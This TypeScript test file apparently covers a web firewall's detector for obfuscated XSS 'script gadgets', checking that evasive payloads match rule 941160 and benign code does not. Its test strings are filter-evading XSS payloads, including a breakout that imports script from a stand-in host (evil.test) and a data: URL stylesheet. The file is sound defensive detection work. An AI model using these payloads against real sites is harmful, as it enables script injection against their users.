/**
 * Script that reaches a sink without naming it where filters look (js-gadgets.ts): a global indexed
 * and called, coercion through toString or valueOf, an aliased sink, a handler parameter naming one,
 * a remote import after a breakout, and an XML stylesheet in a data: URL.
 */
import { describe, expect, it } from "vitest";
import { handlerSink, scriptedStylesheet, scriptGadget } from "../../../core/signatures/js-gadgets.ts";
import { matchesAt } from "./support.ts";

describe("script gadgets", () => {
  it("takes sinks reached through globals, coercion, aliases and imports", () => {
    expect(scriptGadget("0;top[/al/.source+/ert/.source](1)", true)).toBe(true);
    expect(scriptGadget("x';window['al'+'ert'](document.domain)//", true)).toBe(true);
    expect(scriptGadget("'-{toString:alert,valueOf:alert}+''-'", true)).toBe(true);
    expect(scriptGadget("true,x=alert,x(1)", true)).toBe(true);
    expect(scriptGadget("';import('//evil.test/x.js');//", false)).toBe(true);
  });

  it("leaves code samples and prose alone", () => {
    // A dispatch in a body's code sample is code, not a probe; only URL parameters are asked.
    expect(scriptGadget("window[handlerName](event)", false)).toBe(false);
    expect(scriptGadget("items[0](x) and top[3] results", true)).toBe(false);
    // A class's symbol-keyed method, and Markdown's link after "this" (the text corpus's lines).
    expect(scriptGadget("return this[kDispatch](opts, handler)", true)).toBe(false);
    expect(scriptGadget("take a look at this [simple ping demo](https://example.org/ping.html)", true)).toBe(false);
    expect(scriptGadget("see the top [10 results](https://example.org/top)", true)).toBe(false);
    expect(scriptGadget("const mod = await import('./chart.js');", false)).toBe(false);
    expect(scriptGadget("alert = critical; show alert(1) banner", true)).toBe(false);
    expect(scriptGadget("set toString: custom formatter", true)).toBe(false);
  });

  it("takes a handler parameter naming a sink, and leaves a handler's own name", () => {
    expect(handlerSink("onReady", "alert")).toBe(true);
    expect(handlerSink("on_load", "window.eval")).toBe(true);
    expect(handlerSink("onReady", "playerReady")).toBe(false);
    expect(handlerSink("once", "alert")).toBe(false);
  });

  it("takes an XML stylesheet in a data: or javascript: URL, and leaves a relative one", () => {
    expect(scriptedStylesheet('<?xml-stylesheet type="text/xsl" href="data:text/xsl,%3Cscript%3E"?><r/>')).toBe(true);
    expect(scriptedStylesheet('<?xml-stylesheet href="javascript:alert(1)"?>')).toBe(true);
    expect(scriptedStylesheet('<?xml-stylesheet type="text/xsl" href="/sitemap.xsl"?><urlset/>')).toBe(false);
  });

  it("reports 941160 where the request carries them", () => {
    expect(matchesAt({ query: [["lat", "0;top[/al/.source+/ert/.source](1)"]] })).toContain("941160@query:lat");
    expect(matchesAt({ query: [["onReady", "alert"]] })).toContain("941160@query:onReady");
    const xml = '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="data:text/xsl,x"?><urlset/>';
    expect(
      matchesAt({
        method: "POST",
        body: { bytes: new TextEncoder().encode(xml), contentType: "application/xml", truncated: false },
      }),
    ).toContain("941160@body:raw");
  });
});
